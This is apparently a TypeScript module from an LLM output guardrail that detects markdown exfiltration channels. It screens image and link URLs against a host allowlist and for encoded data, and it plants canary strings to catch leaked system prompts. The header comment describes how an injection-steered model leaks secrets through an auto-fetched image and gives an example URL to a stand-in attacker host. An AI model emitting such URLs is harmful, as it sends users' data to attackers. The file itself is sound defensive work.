// Output exfiltration checks (OWASP LLM05): a model steered by injected content can leak data through markdown
// that a chat UI renders — an image is fetched with no click (`![x](https://evil.example/?q=<secret>)`), a link or a
// bare URL carries data in its URL, raw HTML can load resources or run script.
// What is a channel (guardrails/README.md, "What counts as an exfiltration channel"): anything fetched with no click
// (images, `<img>`) to a host outside the allowlist; a link, autolink or bare URL outside the allowlist when it can
// carry data (userinfo, query, fragment, a redaction marker, host labels or path segments that look like encoded
// data); script-capable schemes always. What counts as a link, an image or
// raw HTML is decided by markdown-it (markdown.ts, markdown-parse.ts, markdown-html.ts); this file holds the URL
// policy (allowlist), the mode and the canary rules.
import type { ExfilPolicy } from './markdown.ts';
import { redactionMarker, regexRule, type Rule } from './rules.ts';

export type ExfiltrationMode = 'off' | 'flag' | 'neutralize' | 'block';

/** Host allowlist entries: `docs.example.com` (exact) or `*.example.com` (any subdomain, not the apex). */
export function hostAllowed(host: string, allowed: readonly string[]): boolean {
  const h = host.toLowerCase().replace(/\.$/, '');
  for (const raw of allowed) {
    const a = raw.toLowerCase().replace(/\.$/, '');
    if (a.startsWith('*.') ? h.endsWith(a.slice(1)) && h.length > a.length - 1 : h === a) return true;
  }
  return false;
}

const RELATIVE_BASE = 'https://relative.tollgate.invalid/';

/**
 * How a URL is used: `fetch` — loaded with no click (markdown images, `<img src/srcset>`, and reference definitions an
 * earlier image may use); `link` — followed only when the user clicks (links, autolinks, bare URLs, `<a href>`).
 */
export type UrlUse = 'fetch' | 'link';

/**
 * Whether a URL in output may stay as it is. It is resolved the way a browser resolves it on a page served over
 * https (WHATWG URL: tabs and newlines dropped, backslashes are slashes, `//host` is protocol-relative, entities
 * already decoded by the caller); relative URLs stay (they resolve to the page's own origin), mailto: and tel: stay,
 * http(s) stays when its host is on the allowlist; every other scheme (javascript:, data:, vbscript:, file:, ftp:)
 * and anything that does not parse goes. Outside the allowlist, a URL that is fetched goes; a link goes only when it
 * can carry data (`urlDataReason`): a plain address such as `https://kubernetes.io/docs/concepts/` stays.
 */
export function urlAllowed(rawUrl: string, allowed: readonly string[], use: UrlUse = 'fetch'): boolean {
  let u: URL;
  try {
    u = new URL(rawUrl.trim().replace(/^<([^>]*)>$/, '$1'), RELATIVE_BASE);
  } catch {
    return false;
  }
  if (u.protocol === 'mailto:' || u.protocol === 'tel:') return true;
  if (u.protocol !== 'http:' && u.protocol !== 'https:') return false;
  if (u.href.startsWith(RELATIVE_BASE)) return true;
  if (hostAllowed(u.hostname, allowed)) return true;
  return use === 'link' && urlDataReason(u) === undefined;
}

/** Most characters of letters-and-digits ids (5+ each) over host and path a plain address may have. */
const MAX_ID_CHARS = 24;
/** Most characters of URL path and host a plain address may have (beyond that the URL is capacity, not an address). */
const MAX_PLAIN_LENGTH = 200;

/**
 * Why a (parsed, http(s)) URL can carry data to its host, or undefined for a plain address: userinfo, a query, a
 * fragment (read by the page's script once clicked), a redaction marker or a canary's marker (the stage runs after
 * redaction), an e-mail address in the path, a host label or path segment that looks like encoded data
 * (`encodedData`), short letters-and-digits ids adding up to MAX_ID_CHARS over host and path, or a path longer than
 * MAX_PLAIN_LENGTH. What stays possible: a few characters of data spelt as words or short ids in a link's path
 * (`https://host/alice/hunter2`), behind a click — see guardrails/README.md.
 */
export function urlDataReason(u: URL): string | undefined {
  if (u.username !== '' || u.password !== '') return 'userinfo';
  if (u.search.length > 1) return 'query';
  if (u.hash.length > 1) return 'fragment';
  let path: string;
  try {
    path = decodeURIComponent(u.pathname);
  } catch {
    return 'encoded'; // a percent-escape that is not UTF-8: bytes, not words
  }
  if (/redacted|[\x00-\x1f\x7f]/i.test(path)) return 'marker';
  if (path.length + u.hostname.length > MAX_PLAIN_LENGTH) return 'long';
  // short ids that mix letters and digits, spread over host labels and path segments, add up
  let ids = 0;
  const idLength = (part: string) => {
    let n = 0;
    for (const t of part.split(/[^A-Za-z0-9]+/)) if (t.length >= 5 && /\d/.test(t) && /[A-Za-z]/.test(t)) n += t.length;
    return n;
  };
  for (const label of u.hostname.split('.')) {
    if (encodedData(label)) return 'host';
    ids += idLength(label);
  }
  for (const seg of path.split('/')) {
    if (/[^@]@[A-Za-z0-9-]+\./.test(seg) || encodedData(seg)) return 'path'; // an e-mail address; not `@scope`
    ids += idLength(seg);
  }
  return ids >= MAX_ID_CHARS ? 'ids' : undefined;
}

const transitions = (t: string) => {
  let n = 0;
  for (let i = 1; i < t.length; i++) if (/\d/.test(t[i] as string) !== /\d/.test(t[i - 1] as string)) n++;
  return n;
};

/**
 * A host label or path segment that looks like encoded data rather than words, numbers or an identifier: a hex run
 * of 32+ (a digest, a UUID without its hyphens: 128 bits), or a run of letters and digits that is long (16+ with
 * three letter/digit alternations, or 24+), short and random (10+ mixing upper case, lower case and digits), a
 * number of 24+ digits, or 40+ letters (base64 without a digit). Slugs (`configure-pod-configmap`), versions
 * (`v1.29.3`, `Rust-1.76.0.html`), issue numbers and words pass.
 */
export function encodedData(seg: string): boolean {
  if (/[0-9a-f]{32}/i.test(seg.replace(/-/g, ''))) return true;
  for (const t of seg.split(/[^A-Za-z0-9]+/)) {
    if (t.length < 10) continue;
    const digits = /\d/.test(t);
    const letters = /[A-Za-z]/.test(t);
    if (!letters) {
      if (t.length >= 24) return true;
    } else if (!digits) {
      if (t.length >= 40) return true;
    } else if (t.length >= 24 || (t.length >= 16 && transitions(t) >= 3)) return true;
    else if (/[a-z]/.test(t) && /[A-Z]/.test(t) && transitions(t) >= 2) return true;
  }
  return false;
}

/** The exfiltration stage's policy for a mode (undefined in mode off). The stage itself is markdown.ts. */
export function exfiltrationPolicy(mode: ExfiltrationMode, allowedHosts: readonly string[]): ExfilPolicy | undefined {
  if (mode === 'off') return undefined;
  return { rewrite: mode !== 'flag', urlBad: (url, use) => !urlAllowed(url, allowedHosts, use) };
}

/** Canaries: strings planted in a system prompt; seeing one in output means the prompt leaked. Case-insensitive. */
export function canaryRules(canaries: readonly string[]): Rule[] {
  return canaries
    .filter((c) => c.length > 0)
    .map((c) =>
      regexRule({
        name: 'canary',
        kind: 'canary',
        pattern: `(?i)${c.replace(/[\\^$.|?*+()[\]{}]/g, '\\$&')}`,
        replace: () => redactionMarker('canary'),
      }),
    );
}
